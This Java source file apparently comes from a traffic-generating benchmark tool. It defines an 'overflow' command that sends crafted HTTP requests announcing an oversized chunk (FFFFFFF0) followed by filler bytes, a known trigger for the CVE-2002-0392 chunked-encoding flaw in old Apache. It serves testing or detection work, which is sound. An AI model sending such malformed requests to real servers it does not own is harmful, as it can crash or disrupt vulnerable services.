package dev.winnow.bench.arena.traffic;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.Callable;
import picocli.CommandLine.Command;
import picocli.CommandLine.Mixin;
import picocli.CommandLine.Option;

/// Requests with a chunk of nearly 4 GiB, which Apache 1.3.24 and 2.0.36 took for a negative number and copied all the
/// same (CVE-2002-0392). There is no exploit in it: the bytes behind the size are the letter A.
@Command(name = "overflow", description = "Announces a chunk that does not fit.")
final class ChunkedOverflow implements Callable<Integer> {
    private static final int TIMEOUT_MS = 2_000;
    private static final int PAUSE_MS = 300;
    private static final byte[] REQUEST = ("""
            POST /overflow HTTP/1.1\r
            Host: www.example.org\r
            Transfer-Encoding: chunked\r
            \r
            FFFFFFF0\r
            """ + "A".repeat(600)).getBytes(StandardCharsets.US_ASCII);

    @Mixin
    private TrafficOptions options;

    @Option(names = "--source", required = true, description = "The address that they come from.")
    private String source = "";

    @Override
    public Integer call() throws IOException, InterruptedException {
        InetSocketAddress server = options.server();
        Crowd.run(options, List.of(source), 0, PAUSE_MS, address -> {
            try (Socket socket = Crowd.connect(address, server, TIMEOUT_MS)) {
                socket.getOutputStream().write(REQUEST);
                socket.getInputStream().read();
            }
        });
        return 0;
    }
}
